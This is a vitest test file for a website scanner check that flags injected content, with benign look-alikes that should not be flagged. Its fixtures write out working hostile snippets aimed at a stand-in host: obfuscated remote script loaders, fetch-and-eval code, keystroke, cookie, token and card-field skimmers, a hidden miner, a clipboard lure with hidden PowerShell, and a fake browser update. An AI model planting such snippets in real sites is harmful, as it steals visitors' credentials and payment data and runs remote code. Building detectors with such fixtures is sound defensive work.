import { describe, expect, it } from 'vitest';
import { injectedContent } from '@/lib/scans/checks/injected-content';
import { capturedPage } from './captured-page';

const FAR = 'stat-cdn.far-7.example';
const shown = (body: string, head = '') =>
  `<!doctype html><html lang="en"><head><title>Lamps</title>${head}</head><body><h1>Lamps</h1><p>Welcome to our lamp shop</p>${body}</body></html>`;
const script = (code: string) => `<script>${code}</script>`;
const encoded = (text: string) => [...text].map((one) => `%${one.charCodeAt(0).toString(16)}`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');
const LOAD = `document.head.appendChild(document.createElement("script")).src="https://${FAR}/m.js"`;

function listSigns(html: string, type = 'text/html') {
  const exchange = capturedPage({ url: 'https://shop.test/', body: html });
  const response = { ...exchange.response, headers: [['Content-Type', type] as const] };
  const found = injectedContent.run(
    { ...exchange, response },
    { origin: 'https://shop.test', isBehindLogin: false },
  );
  return [...new Set(found.map(({ titleKey }) => titleKey.split('.')[1]))];
}

describe('what was put into a page', () => {
  it.each<[string, string, string]>([
    ['a script by the part that was put in', script(`eval(unescape("${encoded(LOAD)}"))`), 'hiddenCode'],
    ['an address within decoded code', script(`eval(unescape('${encodeURIComponent(LOAD)}'))`), 'hiddenCode'],
    [
      'a script in an address',
      `<script src="data:text/javascript;base64,${base64(LOAD)}"></script>`,
      'hiddenCode',
    ],
    ['a picture that fails', `<img src=x onerror="eval(atob('${base64(LOAD)}'))">`, 'hiddenCode'],
    [
      'a text that is fetched and run',
      script(`fetch('https://${FAR}/c').then(function(r){return r.text()}).then(function(t){(0,eval)(t)})`),
      'fetchedCode',
    ],
    [
      'the same by await',
      script(
        `(async()=>{const r=await fetch('https://${FAR}/c');const j=await r.json();new Function(atob(j.x))()})()`,
      ),
      'fetchedCode',
    ],
    ['a handful of signs', script(`${'[][(![]+[])[+[]]]'.repeat(80)}()`), 'unreadableCode'],
    [
      'a frame in a block without a height',
      `<div style="height:0;overflow:hidden"><iframe src="//${FAR}/t" width="400" height="300"></iframe></div>`,
      'hiddenFrame',
    ],
    [
      'links that a written style hides',
      `${script("document.write('<style>#f8{left:-9000px;position:absolute}</style>')")}<div id="f8"><a href="http://a1.example/">online casino</a><a href="http://b2.example/">viagra</a></div>`,
      'hiddenLinks',
    ],
    [
      'links that everybody sees',
      '<p><a href="http://a1.example/">真人娱乐城</a><a href="http://b2.example/">六合彩</a></p>',
      'strangeLinks',
    ],
    [
      'a title for robots',
      script("if(/baiduspider/i.test(navigator.userAgent)){document.title='六合彩开奖结果'}"),
      'foreignTitle',
    ],
    [
      'a miner of another name',
      `<script src="https://${FAR}/l.js"></script>${script(`new Client.Anonymous('${'3f9a1c7e'.repeat(8)}',{throttle:0.2}).start()`)}`,
      'miner',
    ],
    [
      'all fields, every second',
      `<form><input name="card_number"></form>${script(`setInterval(function(){var d='';document.querySelectorAll('input').forEach(function(e){d+=e.value});if(d!==window.l){window.l=d;new Image().src='https://${FAR}/i?'+d}},700)`)}`,
      'skimmer',
    ],
    [
      'every key',
      script(`var k='';document.onkeypress=function(e){k+=e.key;new Image().src='http://${FAR}/k?'+k}`),
      'skimmer',
    ],
    ['all cookies', script(`new Image().src='http://${FAR}/c?'+escape(document.cookie)`), 'skimmer'],
    [
      'a stored token',
      script(`fetch('https://${FAR}/t',{method:'POST',body:localStorage.getItem('token')})`),
      'skimmer',
    ],
    [
      'a payment form that is written',
      script(
        `document.getElementById("x").innerHTML='<form action="https://${FAR}/pay"><input name="cc_number"></form>'`,
      ),
      'skimmer',
    ],
    [
      'the way back',
      script(
        `history.pushState(0,0);addEventListener('popstate',function(){location.href='http://${FAR}/ads'})`,
      ),
      'visitorRedirect',
    ],
    [
      'a command to paste',
      script(
        "document.body.insertAdjacentHTML('beforeend','<p>Press Win+R, then Ctrl+V</p>');document.onclick=function(){navigator.clipboard.writeText('powershell -w hidden -enc SQBFAFgA')}",
      ),
      'lure',
    ],
    [
      'an update that is none',
      `<div><h2>Your Chrome is out of date</h2><a href="http://${FAR}/Chrome.exe">Update</a></div>`,
      'lure',
    ],
    [
      'VBScript that drops a file',
      '<script language="VBScript">Set F = CreateObject("Scripting.FileSystemObject")</script>',
      'dropper',
    ],
  ])('%s', (_name, body, kind) => {
    expect(listSigns(shown(body))).toContain(kind);
  });

  it('is the whole page', () => {
    expect(listSigns('<title>Hacked By Nobody</title><h1>Hacked By Nobody</h1><p>Greetings</p>')).toContain(
      'defaced',
    );
  });
});

describe('what only looks like it', () => {
  it.each<[string, string]>([
    [
      'cookies that are read for consent',
      script("if(document.cookie.indexOf('ok=1')>-1){document.title='Lamps'}"),
    ],
    [
      'a text of the own site that is run',
      script("fetch('/a.js').then(function(r){return r.text()}).then(function(t){eval(t)})"),
    ],
    [
      'data of another site that is shown',
      script(
        `fetch('https://${FAR}/d').then(function(r){return r.json()}).then(function(j){document.getElementById('x').textContent=j.n})`,
      ),
    ],
    ['a title that counts', script("document.title='('+n+') Lamps'")],
    [
      'clicks that are counted',
      script(
        `document.addEventListener('click',function(e){navigator.sendBeacon('https://${FAR}/c',e.target.tagName)})`,
      ),
    ],
    [
      'a command to install',
      '<pre>npm install lamps</pre><script>b.onclick=function(){navigator.clipboard.writeText("npm install lamps")}</script>',
    ],
    ['a lesson about PowerShell', '<p>Run it with powershell -enc only if you know what it does.</p>'],
    [
      'a program of the shop',
      '<h2>Download</h2><p>Works with every browser.</p><a href="/LampSetup.exe">Windows</a>',
    ],
    [
      'an article about a break-in',
      '<article><h2>Hacked by whom?</h2><p>Restore a backup first.</p></article>',
    ],
    [
      'news about gambling',
      '<p>警方打掉一网上赌博团伙，以六合彩、百家乐等形式组织赌博。<a href="http://news1.example/">六合彩案</a><a href="http://news2.example/">百家乐案</a></p>',
    ],
    [
      'a block that opens, with a video',
      '<div style="height:0;overflow:hidden"><iframe title="How it is made" src="https://video.partner.example/1" width="400" height="300"></iframe></div>',
    ],
    [
      'an address in decoded settings',
      script(`var c=JSON.parse(atob('${base64('{"api":"/api"}')}'));fetch(c.api)`),
    ],
  ])('%s', (_name, body) => {
    expect(listSigns(shown(body))).toEqual([]);
  });
});
